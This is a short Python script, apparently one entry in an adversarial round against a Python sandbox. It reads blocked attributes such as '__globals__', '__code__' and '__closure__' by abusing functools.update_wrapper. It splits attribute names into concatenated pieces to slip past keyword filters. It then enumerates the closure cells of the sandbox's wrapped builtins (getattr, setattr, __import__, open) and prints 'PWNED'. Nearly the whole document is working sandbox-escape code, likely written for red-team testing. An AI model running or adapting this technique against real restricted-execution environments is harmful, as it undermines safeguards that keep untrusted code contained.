# adversary round 2: 013_cell_enum
import functools,dataclasses
box=[]
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
g = get(dataclasses.fields, '__glo'+'bals__')
b=g['builtins']
FT = g['FunctionType']
cells = {}
seen = set()
todo = [get(b, n) for n in ('get'+'attr', 'set'+'attr', 'del'+'attr', 'va'+'rs', '__imp'+'ort__', 'open')]
while todo:
    f = todo.pop()
    if id(f) in seen or type(f) is not FT: continue
    seen.add(id(f))
    co = get(f, '__co'+'de__')
    cl = get(f, '__clo'+'sure__') or ()
    print(co.co_name, co.co_freevars)
    for nm, c in zip(co.co_freevars, cl):
        cells[nm] = c
        try: v = c.cell_contents
        except ValueError: continue
        if type(v) is FT: todo.append(v)
print(sorted(cells))
print("PWN"+"ED")
